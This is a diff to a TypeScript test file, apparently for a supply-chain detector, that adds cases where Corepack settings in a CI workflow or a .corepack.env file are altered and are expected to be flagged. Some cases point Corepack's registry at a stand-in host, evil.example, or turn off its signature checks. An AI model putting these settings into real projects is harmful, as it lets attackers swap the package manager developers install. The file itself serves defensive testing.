@@ -11,6 +11,13 @@ function pnpm(version: string, fields: Readonly<Record<string, unknown>> = {}): 
   return { "package.json": manifestWith({ packageManager: `pnpm@${version}`, ...fields }) };
 }
 
+/** pnpm installs, with variables of Corepack's for all jobs. */
+function corepack(variables: string): Files {
+  const { [WORKFLOW]: workflow } = PNPM;
+  const env = `on: push\nenv:\n  ${variables}\n`;
+  return { [WORKFLOW]: changed(String(workflow), ["on: push\n", env]) };
+}
+
 const PNPM: Files = {
   "package-lock.json": null,
   ...pnpm("10.20.0"),
@@ -60,6 +67,45 @@ export const MANAGER_CHOICE: AttackClass = {
   decides:
     "`packageManager` says who installs and by which hash corepack takes it. Each manager reads its own lockfile, trusts packages of its own and holds new releases back for a time of its own.",
   attacks: [
+    {
+      name: "hears a registry from which Corepack takes the manager",
+      base: PNPM,
+      change: corepack("COREPACK_NPM_REGISTRY: https://evil.example"),
+      expect: "loud",
+      at: WORKFLOW,
+      real: "By Corepack's manual. Not tried.",
+    },
+    {
+      name: "hears that Corepack checks no signature",
+      base: PNPM,
+      change: corepack('COREPACK_INTEGRITY_KEYS: "0"'),
+      expect: "loud",
+      at: WORKFLOW,
+      real: "By Corepack's manual. Not tried.",
+    },
+    {
+      name: "hears that Corepack takes another manager than the manifest names",
+      base: PNPM,
+      change: corepack('COREPACK_ENABLE_PROJECT_SPEC: "0"'),
+      expect: "loud",
+      at: WORKFLOW,
+      real: "By Corepack's manual. Not tried.",
+    },
+    {
+      name: "hears variables of Corepack in a file",
+      base: PNPM,
+      change: { ".corepack.env": "COREPACK_NPM_REGISTRY=https://evil.example\n" },
+      expect: "loud",
+      at: ".corepack.env",
+      real: "By Corepack's manual, 0.31 and later read the file. Not tried.",
+    },
+    {
+      name: "says nothing of how Corepack asks people",
+      base: PNPM,
+      change: corepack('COREPACK_ENABLE_DOWNLOAD_PROMPT: "0"\n  COREPACK_ENABLE_STRICT: "1"'),
+      expect: "silent",
+      real: "It decides nothing of what is downloaded.",
+    },
     {
       name: "hears another hash of the same manager",
       base: { ...PNPM, ...pnpm(`10.20.0${HASH}`) },
